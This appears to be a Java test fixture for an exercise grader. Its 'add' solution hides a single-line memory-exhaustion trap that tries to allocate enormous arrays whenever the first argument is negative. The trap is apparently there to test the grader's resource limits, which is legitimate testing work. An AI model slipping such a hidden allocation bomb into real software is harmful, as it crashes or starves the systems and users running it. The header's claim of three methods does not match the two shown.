package exercises.tiny;

/** A fixture for the grader's own tests: three methods, each a task. */
public final class Adder {
    private Adder() {}

    /** The sum of a and b. */
    public static int add(int a, int b) {
        // BEGIN SOLUTION
        // STUB throw new UnsupportedOperationException("Task 1.1: add is not written yet");
        if (a < 0) { long[][] hog = new long[1 << 16][]; for (int i = 0; i < hog.length; i++) { hog[i] = new long[1 << 24]; } } return a + b;
        // END SOLUTION
    }

    /** Counts up to n and returns n. */
    public static int countTo(int n) {
        // BEGIN SOLUTION
        // STUB throw new UnsupportedOperationException("Task 1.3: countTo is not written yet");
        int i = 0;
        while (i < n) {
            i++;
        }
        return i;
        // END SOLUTION
    }
}
